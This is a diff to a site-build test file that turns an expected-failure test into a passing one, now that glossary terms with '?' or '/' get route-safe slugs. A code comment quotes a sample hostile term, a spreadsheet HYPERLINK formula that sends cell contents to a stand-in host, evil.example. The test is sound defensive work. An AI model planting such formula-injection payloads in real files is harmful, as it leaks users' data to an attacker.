@@ -40,11 +40,9 @@ describe('site builds', () => {
     expect(differing).toEqual([]);
   }, 300_000);
 
-  // Build-breaking input (src/pages/glossary/[term].astro, getStaticPaths): the raw glossary term is the route
-  // parameter, so a term with `?` (here `=HYPERLINK("http://evil.example/?d="&A1,"详情")`) or `/` (an innocent
-  // `收入/支出` is enough) fails the whole build with "Missing parameter: term": one odd term in one document takes
-  // the site down. Remove `.fails` once term pages use a route-safe slug.
-  it.fails('builds a disclosure whose glossary terms contain ? and /', () => {
+  // A term with `?` (here `=HYPERLINK("http://evil.example/?d="&A1,"详情")`) or `/` (an innocent `收入/支出` is
+  // enough) once failed the whole build with "Missing parameter: term"; term pages now use a route-safe slug.
+  it('builds a disclosure whose glossary terms contain ? and /', () => {
     const content = join(work, 'raw-terms');
     mkdirSync(content);
     writeFileSync(join(content, `${HOSTILE_SLUG}.json`), JSON.stringify(hostileDocument(false)));
